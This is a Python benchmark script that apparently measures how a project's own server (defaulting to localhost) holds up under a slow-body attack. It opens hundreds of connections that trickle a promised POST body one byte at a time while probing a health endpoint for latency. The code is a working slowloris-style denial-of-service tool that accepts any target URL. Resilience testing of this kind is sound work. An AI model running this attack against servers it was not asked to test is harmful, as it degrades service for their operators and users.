#!/usr/bin/env python3
"""Slow-body attack with a health probe (a measurement, not a test).

Opens CONNS connections that each announce a body of 100000 bytes for POST /api/analyze and then send it one byte
every GAP seconds, while a probe asks GET /api/health every 0.2 s. Prints the probe's latency (p50/p99/max, failures)
and how many attack connections the server closed.

    python3 finlens-server/bench/trickle.py --url http://127.0.0.1:18080 --conns 400 --gap 15 --seconds 90
"""
import argparse, socket, threading, time, urllib.parse, http.client

ap = argparse.ArgumentParser()
ap.add_argument("--url", default="http://127.0.0.1:8080")
ap.add_argument("--conns", type=int, default=400)
ap.add_argument("--gap", type=float, default=15.0)
ap.add_argument("--seconds", type=float, default=90.0)
a = ap.parse_args()
u = urllib.parse.urlparse(a.url)
host, port = u.hostname, u.port or 80
stop = time.time() + a.seconds
closed = [0]
lock = threading.Lock()

def attacker():
    try:
        s = socket.create_connection((host, port), timeout=5)
        s.sendall(("POST /api/analyze HTTP/1.1\r\nHost: %s:%d\r\nContent-Type: text/plain; charset=utf-8\r\n"
                   "Content-Length: 100000\r\n\r\n" % (host, port)).encode())
        s.settimeout(a.gap)
        while time.time() < stop:
            s.sendall(b"x")
            try:
                if s.recv(1024) == b"":
                    raise OSError("closed")
                raise OSError("answered")
            except socket.timeout:
                pass
    except OSError:
        with lock:
            closed[0] += 1

threads = [threading.Thread(target=attacker, daemon=True) for _ in range(a.conns)]
for t in threads:
    t.start()
lat, fails = [], 0
while time.time() < stop:
    t0 = time.time()
    try:
        c = http.client.HTTPConnection(host, port, timeout=5)
        c.request("GET", "/api/health")
        r = c.getresponse(); r.read(); c.close()
        if r.status != 200:
            fails += 1
        lat.append(time.time() - t0)
    except OSError:
        fails += 1
    time.sleep(0.2)
lat.sort()
def pct(p):
    return lat[min(len(lat) - 1, int(p * len(lat)))] * 1000 if lat else float("nan")
print("health probes %d, failed %d, p50 %.1f ms, p99 %.1f ms, max %.1f ms; attack connections closed by the server: %d of %d"
      % (len(lat), fails, pct(0.5), pct(0.99), lat[-1] * 1000 if lat else float("nan"), closed[0], a.conns))
